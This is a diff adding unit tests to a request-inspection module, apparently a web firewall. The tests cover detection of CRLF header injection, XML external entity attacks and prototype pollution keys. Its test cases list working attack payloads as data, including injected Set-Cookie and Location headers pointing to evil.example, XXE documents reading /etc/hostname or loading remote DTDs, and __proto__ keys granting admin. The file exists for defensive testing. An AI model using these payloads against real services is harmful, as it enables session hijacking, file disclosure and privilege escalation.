@@ -6,13 +6,16 @@ import { loadConfig } from '../../src/config/index.js';
 import {
   DEFAULT_INSPECTION_LIMITS,
   detectCommandInjection,
+  detectHeaderInjection,
   detectSqlInjection,
   detectTraversal,
+  detectXmlEntities,
   detectXss,
   InspectionBudget,
   inspectRequest,
   inspectValue,
   isInspectedHeader,
+  isPrototypeKey,
   MAX_BODY_DEPTH,
   MAX_BODY_NODES,
   sqlFingerprint,
@@ -275,6 +278,101 @@ describe('command injection', () => {
     'Price: $20 (was $25)',
   ])('lets prose through: %s', (text) => {
     expect(detectCommandInjection(text)).toBe(false);
+  });
+});
+
+describe('header injection (CRLF)', () => {
+  it.each([
+    '\r\nSet-Cookie: sid=attacker',
+    'x\nLocation: https://evil.example',
+    'x\rset-cookie:a=1',
+    'en\r\n \tContent-Length : 0',
+    'a\r\n\r\nHTTP/1.1 200 OK',
+    'a\nHTTP/2 302 Found',
+    '\r\nX-Anything-At-All: 1',
+    '\r\nAccess-Control-Allow-Origin: *',
+    '\u010a\u010dLocation: //evil.example',
+    '\u560a\u560dSet-Cookie: a=1',
+    '\u2028Refresh: 0',
+    '\u0085Host: internal',
+  ])('detects %j', (payload) => {
+    expect(detectHeaderInjection(payload)).toBe(true);
+  });
+
+  it.each([
+    'Line one\nLine two',
+    'Notes:\nTodo: buy milk',
+    'Cookie recipe:\nflour',
+    'Location of the office:\nBerlin',
+    'Compare\nHTTP/2 and HTTP/3',
+    'status\nHTTP 404 means not found',
+    'x-',
+    'Set-Cookie: a=1',
+    '\n',
+  ])('lets multi-line text through: %j', (text) => {
+    expect(detectHeaderInjection(text)).toBe(false);
+  });
+
+  it('is checked, percent-decoded, in the path, the query and headers, in strict mode only, never in a body', () => {
+    expect(inspectRequest(get('/v1/twin/x', 'next=%2F%0d%0aLocation:%20https://evil.example'), STRICT)).toEqual({ rule: 'header_injection', location: 'query', field: 'next' });
+    expect(inspectRequest(get('/v1/twin/a%250d%250aSet-Cookie:x=1'), STRICT)).toEqual({ rule: 'header_injection', location: 'path' });
+    expect(inspectRequest(get('/v1/twin/x', '', { cookie: 'lang=en%0d%0aSet-Cookie:%20a=b' }), STRICT)).toEqual({ rule: 'header_injection', location: 'header', field: 'cookie' });
+    expect(inspectRequest(post('/v1/twin/notes', { text: 'Standup\nLocation: room 4\nHost: Anna' }), STRICT)).toBeNull();
+    expect(inspectValue('%0d%0aSet-Cookie: a=1', 'text', 'query')).toBeNull();
+  });
+});
+
+describe('XML entities', () => {
+  it.each([
+    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
+    '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
+    "<!DOCTYPE r PUBLIC 'id' 'http://evil.example/x.dtd'><r/>",
+    '<!doctype r [<!entity a "aaaa">]><r>&a;&a;</r>',
+    '\ufeff <!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>',
+    '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hostname"/></r>',
+  ])('detects %j', (payload) => {
+    expect(detectXmlEntities(payload)).toBe(true);
+  });
+
+  it.each([
+    '<?xml version="1.0"?><note><to>Tove</to></note>',
+    '<!DOCTYPE html><p>hi</p>',
+    '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN"><p>hi</p>',
+    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
+    'What does <!ENTITY x SYSTEM "file:///etc/passwd"> do?',
+    '<config><entity>customer</entity><system>billing</system></config>',
+    '<!DOCTYPE r',
+  ])('lets documents without entities, and prose, through: %j', (text) => {
+    expect(detectXmlEntities(text)).toBe(false);
+  });
+
+  it('is checked in strict mode wherever a value is an XML document, percent-encoded or not', () => {
+    const xxe = '<!DOCTYPE r [<!ENTITY x SYSTEM "https://evil.example/">]><r>&x;</r>';
+    expect(inspectRequest(post('/v1/knowledge/ingest', xxe), STRICT)).toEqual({ rule: 'xml_entity', location: 'body' });
+    expect(inspectRequest(post('/v1/knowledge/ingest', { doc: xxe }), STRICT)).toEqual({ rule: 'xml_entity', location: 'body', field: 'doc' });
+    expect(inspectRequest(get('/v1/knowledge/x', `doc=${encodeURIComponent(xxe)}`), STRICT)).toEqual({ rule: 'xml_entity', location: 'query', field: 'doc' });
+    expect(inspectValue(xxe, 'text', 'body')).toBeNull();
+  });
+});
+
+describe('prototype pollution', () => {
+  it.each(['__proto__', '__proto__[admin]', 'a[__proto__][b]', 'a.__proto__.b', 'constructor[prototype][admin]', 'constructor.prototype', "x['constructor']['prototype']"])(
+    'detects the key %j',
+    (key) => {
+      expect(isPrototypeKey(key)).toBe(true);
+    },
+  );
+
+  it.each(['proto', 'prototype', 'constructor', 'prototype_id', 'my__proto__field', 'constructors[prototype]'])('lets the key %j through', (key) => {
+    expect(isPrototypeKey(key)).toBe(false);
+  });
+
+  it('refuses such keys in query strings and bodies, nested or not, in strict and text mode', () => {
+    expect(inspectRequest(get('/v1/twin/x', '__proto__[admin]=1'), STRICT)).toEqual({ rule: 'prototype_pollution', location: 'query', field: '?' });
+    expect(inspectRequest(post('/v1/twin/x', JSON.parse('{"a":{"__proto__":{"admin":true}}}')), STRICT)).toEqual({ rule: 'prototype_pollution', location: 'body', field: 'a.?' });
+    expect(inspectRequest(post('/v1/twin/x', { constructor: { prototype: { admin: true } } }), STRICT)).toEqual({ rule: 'prototype_pollution', location: 'body', field: 'constructor.?' });
+    expect(inspectRequest(post('/v1/query', JSON.parse('{"query":{"__proto__":{"x":1}}}')), QUERY_ROUTE)).toMatchObject({ rule: 'prototype_pollution' });
+    expect(inspectRequest(post('/v1/twin/x', { prototype: 1, constructor: 'x', proto: { a: 1 } }), STRICT)).toBeNull();
   });
 });
 
